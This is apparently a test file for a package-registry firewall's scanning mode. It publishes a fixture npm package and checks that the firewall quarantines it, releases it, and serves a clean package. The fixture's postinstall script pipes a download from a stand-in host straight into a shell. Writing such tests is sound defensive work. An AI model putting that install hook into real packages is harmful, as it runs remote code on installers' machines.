import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startVerdaccio, type Verdaccio } from '../support/verdaccio.js';
import { runCli } from '../support/cli.js';
import { startFirewallProcess, writePolicy, type FirewallProcess } from './support.js';

const POLICY = 'version: 1\nrules:\n  - id: suspicious-code\n    when: { suspicious: high }\n    action: quarantine\n    reason: the scanner found suspicious code\n';

describe('firewall --scan', () => {
  let v: Verdaccio;
  let fw: FirewallProcess;
  beforeAll(async () => {
    v = await startVerdaccio();
    await v.publish({ name: 'sus-pkg', version: '1.0.0', scripts: { postinstall: 'curl -s http://payload.invalid/p.sh | sh' } });
    await v.publish({ name: 'clean-pkg', version: '1.0.0' });
    fw = await startFirewallProcess({ policy: await writePolicy(POLICY), upstream: v.url, args: ['--scan'] });
  });
  afterAll(async () => {
    await fw?.stop();
    await v?.close();
  });

  it('quarantines a tarball whose install script pipes a download into a shell, before serving a byte', async () => {
    const res = await fetch(`${fw.url}/sus-pkg/-/sus-pkg-1.0.0.tgz`);
    expect(res.status).toBe(403);
    expect(res.headers.get('x-sscs-decision')).toBe('quarantine; rule=suspicious-code');
    expect(((await res.json()) as { error: string }).error).toContain('install-script-remote-code (critical)');
    const list = await runCli(['firewall', 'quarantine', 'list', '--data-dir', fw.dataDir]);
    expect(list.stdout).toContain('sus-pkg@1.0.0\tsuspicious-code');
  });

  it('drops the version the scan quarantined from the packument, and serves it once released', async () => {
    const doc = await fetch(`${fw.url}/sus-pkg`);
    expect(doc.status).toBe(403);
    expect(((await doc.json()) as { error: string }).error).toContain('no version of sus-pkg is allowed');
    const rel = await runCli(['firewall', 'quarantine', 'release', 'sus-pkg@1.0.0', '--reason', 'test fixture', '--data-dir', fw.dataDir]);
    expect(rel.exitCode).toBe(0);
    expect((await fetch(`${fw.url}/sus-pkg`)).status).toBe(200);
    const tgz = await fetch(`${fw.url}/sus-pkg/-/sus-pkg-1.0.0.tgz`);
    expect(tgz.status).toBe(200);
    expect(tgz.headers.get('x-sscs-decision')).toBe('allow; rule=release:1');
  });

  it('serves a clean tarball after scanning it', async () => {
    const res = await fetch(`${fw.url}/clean-pkg/-/clean-pkg-1.0.0.tgz`);
    expect(res.status).toBe(200);
    expect((await res.arrayBuffer()).byteLength).toBeGreaterThan(100);
  });
});
